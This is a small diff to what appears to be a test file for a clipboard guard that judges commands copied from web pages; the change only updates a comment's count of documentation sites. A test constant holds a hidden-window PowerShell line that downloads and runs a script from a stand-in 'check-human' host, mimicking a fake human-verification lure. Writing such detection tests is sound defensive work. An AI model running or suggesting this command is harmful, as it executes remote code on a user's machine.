@@ -4,7 +4,7 @@ import { judgeHeld } from '@/utils/guards/clipboard-judge';
 
 /**
  * The clipboard judge on the page a text came from. happy-dom draws nothing, so no text is ever
- * readable here: whether a page shows a command openly is the e2e tests' (21 documentation
+ * readable here: whether a page shows a command openly is the e2e tests' (30 documentation
  * sites in both browsers); these hold what is decided before that.
  */
 const COMMAND = 'powershell -w h -c "iex(irm https://check-human.example/a.ps1)"';
